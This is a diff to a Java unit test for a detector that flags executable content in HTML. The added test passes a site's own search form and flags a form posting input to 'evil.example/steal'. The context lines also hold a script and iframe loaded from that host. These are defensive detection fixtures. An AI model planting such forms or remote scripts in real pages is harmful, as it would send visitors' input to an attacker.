@@ -25,4 +25,14 @@ class ExecutableContentTest {
         <iframe src="https://evil.example"></iframe><script src="https://evil.example/x.js"></script></body></html>
         """)).hasSize(7);
   }
+
+  @Test
+  void theSearchPagesOwnFormIsAllowedAndAnyOtherFormIsFound() {
+    assertThat(ExecutableContent.in("""
+        <html><body><form role="search" action="/recherche/" method="get"><input name="q"></form></body></html>
+        """)).isEmpty();
+    assertThat(ExecutableContent.in("""
+        <html><body><form action="https://evil.example/steal" method="post"><input name="q"></form></body></html>
+        """)).hasSize(1);
+  }
 }
